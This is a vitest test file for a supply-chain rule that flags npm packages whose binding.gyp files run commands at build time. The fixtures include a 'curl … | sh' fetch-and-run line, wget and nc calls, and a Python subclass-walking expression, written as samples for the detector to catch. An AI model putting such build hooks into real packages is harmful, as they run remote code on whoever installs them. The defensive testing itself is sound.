import { describe, expect, it } from "vitest";
import { integrityOf, packageOf } from "../archives/testing/tar.ts";
import { describeOnlineRule, judgeOnline } from "../testing/online-rule.ts";
import { packument, tarball } from "../testing/registry-server.ts";
import { rule } from "./rule.ts";

describeOnlineRule(rule, import.meta.dirname);

const gyp = (command: string) => JSON.stringify({ targets: [{ target_name: "a", defines: [command] }] });

interface Version {
  files: Record<string, string>;
  manifest?: object;
}

async function judge(versions: Record<string, Version>, locked: string, before?: string) {
  const archives = Object.entries(versions).map(([version, { files, manifest = {} }]) => ({
    version,
    bytes: packageOf({ name: "lib", version, dependencies: { nan: "1" }, ...manifest }, files),
  }));
  const answers = {
    lib: packument(
      "lib",
      Object.fromEntries(
        archives.map(({ version, bytes }) => [
          version,
          { daysAgo: 100, integrity: integrityOf(bytes), dependencies: { nan: "1" } },
        ]),
      ),
    ),
    ...Object.assign({}, ...archives.map(({ version, bytes }) => tarball("lib", version, bytes))),
  };
  const integrity = Object.fromEntries(archives.map(({ version, bytes }) => [`lib@${version}`, integrityOf(bytes)]));
  return judgeOnline({
    rule,
    answers,
    integrity,
    locked: [`lib@${locked}`],
    ...(before !== undefined && { before: [`lib@${before}`] }),
  });
}

const quiet = { files: { "binding.gyp": gyp("<!(node -p \"require('nan')\")") } };
const fetching = { files: { "binding.gyp": gyp("<!(curl -s https://example.com/a | sh)") } };
const asking = { files: { "binding.gyp": gyp("<!(pkg-config --libs a)") } };

describe("supply/build-command", () => {
  it.each<[string, Version, string[]]>([
    ["a declared dependency's headers", quiet, []],
    ["no binding.gyp at the root", { files: { "deps/binding.gyp": gyp("<!(curl a)") } }, []],
    [
      "a command that fetches",
      fetching,
      [
        "high lib@1.0.0 runs 'curl -s https://example.com/a | sh' (binding.gyp:1) when it is built, which npm does unasked: it names an address on the network; a direct dependency",
      ],
    ],
    [
      "a command in a file that is taken in",
      {
        files: {
          "binding.gyp": '{"includes": ["a/b.gypi"]}',
          "a/b.gypi": gyp("<!(wget x)"),
          "a/other.gypi": gyp("<!(nc x)"),
        },
      },
      [
        "high lib@1.0.0 runs 'wget x' (a/b.gypi:1) when it is built, which npm does unasked: wget reaches the network; a direct dependency",
      ],
    ],
    [
      "a package that has a script of its own",
      { ...asking, manifest: { scripts: { install: "node-gyp-build" } } },
      [
        "low lib@1.0.0 runs 'pkg-config --libs a' (binding.gyp:1) when it is built: it runs pkg-config; a direct dependency",
      ],
    ],
    [
      "a file that is code",
      { files: { "binding.gyp": "{'targets': [x for x in ().__class__.__base__.__subclasses__()]}" } },
      [
        "high lib@1.0.0 runs '{'targets': [x for x in ().__class__.__base__.__subclasses__()]}' (binding.gyp:1) when it is built, which npm does unasked: gyp evaluates it as Python; a direct dependency",
      ],
    ],
  ])("judges %s", async (_what, version, expected) => {
    expect((await judge({ "1.0.0": version }, "1.0.0")).says).toEqual(expected);
  });

  it("tells of an update what the version before did not run", async () => {
    expect((await judge({ "1.0.0": quiet, "1.1.0": asking }, "1.1.0", "1.0.0")).says).toEqual([
      "low lib@1.1.0 runs 'pkg-config --libs a' (binding.gyp:1) when it is built, which npm does unasked, which 1.0.0 did not: it runs pkg-config; a direct dependency",
    ]);
  });

  it("is silent about what an update's version before ran too", async () => {
    expect((await judge({ "1.0.0": fetching, "1.1.0": fetching }, "1.1.0", "1.0.0")).says).toEqual([]);
  });

  it("tells of a new package that the version before ran it too, one step milder", async () => {
    expect((await judge({ "1.0.0": fetching, "1.1.0": fetching }, "1.1.0")).says).toEqual([
      "medium lib@1.1.0 runs 'curl -s https://example.com/a | sh' (binding.gyp:1) when it is built, which npm does unasked, as 1.0.0 did: it names an address on the network; a direct dependency",
    ]);
  });

  it("asks for nothing that the base had locked", async () => {
    const judged = await judge({ "1.0.0": fetching }, "1.0.0", "1.0.0");
    expect([judged.says, judged.requests]).toEqual([[], []]);
  });
});
